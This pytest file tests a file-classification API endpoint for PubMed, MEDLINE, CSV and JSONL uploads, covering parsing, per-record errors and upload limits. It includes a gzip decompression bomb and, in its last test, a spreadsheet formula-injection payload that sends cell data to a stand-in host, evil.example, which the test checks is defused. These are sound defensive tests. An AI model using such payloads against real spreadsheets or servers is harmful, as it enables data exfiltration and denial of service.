"""POST /v1/classify_file: an export uploaded as people have it, read by the bulk readers,
answered per record as JSON or CSV (in process, over the stand-in engine)."""

from __future__ import annotations

import csv
import gzip
import io
import json

from tests.inference.conftest import GatewayClient
from tests.inference.standin_engine import StandInEngine
from tests.preprocessing.test_readers import NBIB, PUBMED_CSV, PUBMED_XML


def test_a_pubmed_xml_upload_is_answered_per_record(client: GatewayClient,
                                                    standin: StandInEngine) -> None:
    standin.script.cancer_probability = 0.9
    response = client.post("/v1/classify_file", files={
        "file": ("pubmed26n0001.xml.gz", gzip.compress(PUBMED_XML.encode()))})
    assert response.status_code == 200, response.text
    body = response.json()
    assert body["read"]["format"] == "pubmed-xml"
    assert body["read"]["skipped"] == {"deleted citation": 2}
    results = body["results"]
    assert [(r["index"], r["pmid"], r["doi"]) for r in results] == [
        (0, "1000001", "10.9999/example.1"), (1, "1000002", None), (2, "1000003", None)]
    assert all(r["result"]["label"] == "cancer" for r in results)
    assert [r["result"]["abstract_missing"] for r in results] == [False, True, False]


def test_csv_output_and_format_override(client: GatewayClient, standin: StandInEngine) -> None:
    standin.script.cancer_probability = 0.2
    response = client.post("/v1/classify_file?output=csv&format=medline",
                           files={"file": ("export.txt", NBIB.encode())})
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert [(r["pmid"], r["label"], r["abstract_missing"]) for r in rows] == [
        ("3000001", "non_cancer", "False"), ("3000002", "non_cancer", "True")]


def test_bad_records_and_bad_files_are_problems(client: GatewayClient) -> None:
    jsonl = '{"id": "ok", "title": "Fine", "abstract": "x"}\n{"id": "b", "title": "\\udc80"}\n'
    body = client.post("/v1/classify_file", files={"file": ("in.jsonl", jsonl.encode())}).json()
    ok, bad = body["results"]
    assert ok["result"] is not None and bad["result"] is None
    assert bad["error"]["status"] == 422 and "lone surrogate" in bad["error"]["detail"]

    unreadable = client.post("/v1/classify_file", files={"file": ("x.csv", b"name\nx\n")})
    assert unreadable.status_code == 422
    assert unreadable.headers["content-type"] == "application/problem+json"
    assert unreadable.json()["errors"][0]["loc"] == ["file"]
    bad_format = client.post("/v1/classify_file?format=docx",
                             files={"file": ("x.csv", PUBMED_CSV.encode())})
    assert bad_format.status_code == 422 and bad_format.json()["errors"][0]["loc"] == ["format"]
    assert client.post("/v1/classify_file").status_code == 422  # no file at all
    header_only = client.post("/v1/classify_file", files={"file": ("x.csv", b"title,abstract\n")})
    assert header_only.status_code == 422
    assert "no records found (read as csv" in header_only.json()["detail"]


def test_uploads_are_bounded_in_records(make_client) -> None:  # noqa: ANN001
    small = make_client(max_file_records=1)
    response = small.post("/v1/classify_file", files={"file": ("c.csv", PUBMED_CSV.encode())})
    assert response.status_code == 422
    assert "2 records; at most 1 per upload" in response.json()["errors"][0]["msg"]


def test_an_upload_that_expands_too_far_is_413(make_client) -> None:  # noqa: ANN001
    small = make_client(max_file_expanded_bytes=100_000)
    bomb = gzip.compress(b"title\n" + b"a" * 5_000_000)
    response = small.post("/v1/classify_file", files={"file": ("x.csv.gz", bomb)})
    assert response.status_code == 413
    assert response.headers["content-type"] == "application/problem+json"
    assert "more than 100000 bytes once decompressed" in response.json()["detail"]


def test_csv_output_defuses_cells_a_spreadsheet_would_run(client: GatewayClient) -> None:
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    jsonl = "".join(json.dumps({"id": i, "title": t, "abstract": "x"}) + "\n"
                    for i, t in (("a", formula), ("b", "-omics of melanoma"),
                                 ("c", "Plain title")))
    response = client.post("/v1/classify_file?output=csv",
                           files={"file": ("in.jsonl", jsonl.encode())})
    assert response.status_code == 200, response.text
    titles = [r["title"] for r in csv.DictReader(io.StringIO(response.text))]
    assert titles == ["'" + formula, "'-omics of melanoma", "Plain title"]
